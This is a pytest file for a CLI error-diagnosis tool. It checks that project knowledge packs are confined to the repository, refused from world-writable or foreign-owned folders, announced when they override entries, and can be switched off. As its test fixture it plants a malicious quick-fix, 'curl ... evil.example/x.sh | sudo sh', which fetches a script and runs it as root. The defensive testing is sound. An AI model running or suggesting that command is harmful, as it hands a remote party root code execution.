"""Attacks through project knowledge packs (issue 14, High 2): a `.errdiag/knowledge` found by walking up
from the working directory is confined to the repository, refused from folders others control,
announced when it changes a bundled entry, named as the origin of what it says, switchable off, and never
a reason for `errdiag run` not to run the command."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

FIXTURE_KB = Path(__file__).parent / "fixtures" / "kb"
EVIL_FIX = "curl -fsSL https://evil.example/x.sh | sudo sh"

OVERRIDE = f"""\
id: demo.disk_full
title: "Demo: the disk is full"
tool: Demo
category: resource
signatures:
  - literal: "demo disk is full"
summary: Run the vendor's repair script.
quick_fixes:
  - title: Repair
    command: "{EVIL_FIX}"
"""

CATCH_ALL = """\
id: zz.anything
title: Anything at all
tool: ZZ
category: runtime
signatures:
  - literal: "boom went the step"
summary: A known thing; nothing to worry about.
"""

DISABLE = "id: demo.vendor_quota\ndisabled: true\n"


def pack(folder: Path, files: dict[str, str]) -> Path:
    root = folder / ".errdiag" / "knowledge"
    for rel, text in files.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)
    return root


def repo(folder: Path) -> Path:
    (folder / ".git").mkdir(parents=True)
    return folder


@pytest.fixture
def run(cli):
    def go(args, cwd, env=None, stdin=None):
        merged = {"ERRDIAG_BUNDLED_DIR": str(FIXTURE_KB), "HOME": "/nonexistent-home"}
        merged.update(env or {})
        return cli(args, env=merged, cwd=cwd, stdin=stdin)

    return go


def fix_of(r) -> list[str]:
    return [f.get("command") for d in json.loads(r.stdout)["diagnoses"] for f in d["quick_fixes"]]


def test_control_a_pack_inside_the_repository_is_used(run, tmp_path):
    top = repo(tmp_path / "proj")
    pack(top, {"demo/disk_full.yaml": OVERRIDE})
    (top / "src").mkdir()
    r = run(["match", "demo disk is full", "--format", "json"], cwd=top / "src")
    assert EVIL_FIX in fix_of(r)


def test_pack_above_the_repository_root_is_ignored(run, tmp_path):
    pack(tmp_path / "outer", {"demo/disk_full.yaml": OVERRIDE})
    inner = repo(tmp_path / "outer" / "cloned")
    (inner / "src").mkdir()
    r = run(["match", "demo disk is full", "--format", "json"], cwd=inner / "src")
    assert r.code == 0
    assert EVIL_FIX not in fix_of(r)


def test_pack_in_a_folder_everyone_can_write_is_ignored(run, tmp_path):
    shared = tmp_path / "shared-tmp"
    shared.mkdir()
    os.chmod(shared, 0o1777)  # like /tmp
    pack(shared, {"demo/disk_full.yaml": OVERRIDE})
    work = shared / "work"
    work.mkdir()
    os.chmod(shared, 0o1777)
    r = run(["match", "demo disk is full", "--format", "json"], cwd=shared)
    assert EVIL_FIX not in fix_of(r)
    assert "ignoring project knowledge" in r.stderr and "writable" in r.stderr
    r = run(["match", "demo disk is full", "--format", "json"], cwd=work)  # outside any repository
    assert EVIL_FIX not in fix_of(r)


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs root to chown")
def test_pack_owned_by_another_user_is_ignored(run, tmp_path):
    top = repo(tmp_path / "proj")
    root = pack(top, {"demo/disk_full.yaml": OVERRIDE})
    os.chown(root.parent, 4242, 4242)
    r = run(["match", "demo disk is full", "--format", "json"], cwd=top)
    assert EVIL_FIX not in fix_of(r)
    assert "owned by another user" in r.stderr


def test_override_and_disable_are_announced(run, tmp_path):
    top = repo(tmp_path / "proj")
    pack(top, {"demo/disk_full.yaml": OVERRIDE, "demo/vendor_quota.yaml": DISABLE})
    r = run(["match", "demo disk is full", "--format", "json"], cwd=top)
    assert "overrides bundled demo.disk_full" in r.stderr
    assert "disables bundled demo.vendor_quota" in r.stderr
    assert "--no-project-kb" in r.stderr
    r = run(["match", "demo disk is full", "--format", "json"], cwd=top)  # from the cache: still said
    assert "overrides bundled demo.disk_full" in r.stderr


@pytest.mark.parametrize("fmt", ["plain", "rich", "markdown", "json", "github", "sarif"])
def test_origin_of_a_project_diagnosis_is_shown_in_every_format(run, tmp_path, fmt):
    top = repo(tmp_path / "proj")
    root = pack(top, {"demo/disk_full.yaml": OVERRIDE, "zz/anything.yaml": CATCH_ALL})
    r = run(["match", "--format", fmt, "--all", "-"], cwd=top,
            stdin=b"demo disk is full\nboom went the step\n")
    assert r.code == 0
    out = "".join(r.stdout.split())  # a long path may be wrapped at 80 columns
    for name in ("demo/disk_full.yaml", "zz/anything.yaml"):
        where = str(root / name)
        assert where in out or json.dumps(where)[1:-1] in out, f"{fmt}: origin of {name} not shown"


def test_no_project_kb_flag_and_env(run, tmp_path):
    top = repo(tmp_path / "proj")
    pack(top, {"demo/disk_full.yaml": OVERRIDE})
    r = run(["match", "demo disk is full", "--format", "json", "--no-project-kb"], cwd=top)
    assert EVIL_FIX not in fix_of(r) and "overrides" not in r.stderr
    r = run(["match", "demo disk is full", "--format", "json"], cwd=top, env={"ERRDIAG_NO_PROJECT_KB": "1"})
    assert EVIL_FIX not in fix_of(r)


def test_broken_pack_never_stops_run_from_running_the_command(run, tmp_path):
    top = repo(tmp_path / "proj")
    pack(top, {"demo/broken.yaml": "id: demo.broken\ntitle: [unclosed\n"})
    marker = tmp_path / "ran"
    r = run(["run", "--", "sh", "-c", f"touch {marker}"], cwd=top)
    assert marker.exists(), "the command did not run"
    assert r.code == 0
    r = run(["run", "--", "sh", "-c", "echo demo disk is full; exit 5"], cwd=top)
    assert r.code == 5
    assert "demo.disk_full" in r.stderr  # the rest of the knowledge still diagnoses
